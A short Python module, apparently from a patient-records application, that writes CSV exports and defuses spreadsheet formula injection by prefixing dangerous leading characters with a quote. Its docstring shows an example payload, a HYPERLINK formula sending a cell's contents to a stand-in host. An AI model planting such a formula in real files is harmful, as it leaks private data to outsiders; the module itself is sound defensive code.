"""The one CSV writer of every export: cells a spreadsheet would run as a formula are defused.

OWASP's CSV injection guidance: a cell beginning with =, +, -, @, tab or carriage return is
prefixed with ' so a spreadsheet shows it as text. Patients type names, notes and the doctor
field, so any of them may be a formula such as =HYPERLINK("http://evil.example/?leak="&B2).
Not the `defusedcsv` package: it leaves tab and carriage return alone and rewrites `|`.
"""

import csv
from collections.abc import Iterable
from typing import TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell: str) -> str:
    """`cell` as a spreadsheet must read it: text, never a formula."""
    return "'" + cell if cell.startswith(FORMULA_START) else cell


def write_csv(output: TextIO, header: Iterable[str], rows: Iterable[Iterable[str]]) -> None:
    """`header`, then every row, each cell made spreadsheet-safe."""
    writer = csv.writer(output)
    for row in (header, *rows):
        writer.writerow([spreadsheet_safe(str(cell)) for cell in row])
